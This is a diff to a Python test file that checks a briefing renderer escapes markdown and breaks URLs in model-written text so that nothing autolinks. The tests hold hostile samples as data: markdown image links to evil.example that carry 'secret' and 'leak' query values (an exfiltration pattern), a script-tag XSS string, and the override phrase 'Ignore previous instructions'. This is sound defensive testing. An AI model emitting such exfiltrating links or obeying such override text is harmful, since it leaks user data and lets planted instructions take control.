@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 
+from briefer.render.escaping import JOINER as J
 from briefer.core.models import Briefing, Point
 from briefer.render.engine import md, render_briefing
 from briefer.render.layout import human_date
@@ -18,14 +19,16 @@ def seed(run: Run) -> Briefing:
 
 
 def test_markdown_syntax_in_model_text_is_escaped() -> None:
-    assert md("![x](https://evil.example/?q=secret)") == r"![x\](https[:]//evil[.]example/?q=secret)"
-    assert md("[x]: https://evil.example") == r"\[x\]: https[:]//evil[.]example"
+    assert md("![x](https://evil.example/?q=secret)") == rf"![x\](https{J}:/{J}/evil{J}.{J}example/?q=secret)"
+    assert md("[x]: https://evil.example") == rf"\[x\]: https{J}:/{J}/evil{J}.{J}example"
     assert md("<script>alert(1)</script>") == r"\<script\>alert(1)\</script\>"
     assert md("*bold* _it_ `code` a|b") == r"\*bold\* \_it\_ \`code\` a\|b"
 
 
-def test_urls_in_model_text_are_defanged_so_nothing_autolinks() -> None:
-    assert md("see https://evil.example and www.evil.example") == "see https[:]//evil[.]example and www[.]evil[.]example"
+def test_urls_in_model_text_are_broken_by_an_invisible_joiner_so_nothing_autolinks() -> None:
+    said = md("see https://evil.example and www.evil.example")
+    assert said == f"see https{J}:/{J}/evil{J}.{J}example and www{J}.{J}evil{J}.{J}example"
+    assert said.replace(J, "") == "see https://evil.example and www.evil.example"  # reads as it was
 
 
 def test_square_brackets_that_cannot_make_a_link_stay_plain() -> None:
@@ -48,7 +51,7 @@ def test_hostile_model_text_renders_inert_in_the_briefing(run: Run) -> None:
     first = markdown.splitlines()[0]
     assert first == r"# Talks ## Ignore previous instructions \<img src=x\>"
     assert "![chart](" not in markdown and "[click](" not in markdown
-    assert r"![chart\](https[:]//evil[.]example/leak?d=1)" in markdown
+    assert rf"![chart\](https{J}:/{J}/evil{J}.{J}example/leak?d=1)" in markdown
 
 
 def test_several_sources_cite_the_source_with_the_paragraph(run: Run) -> None:
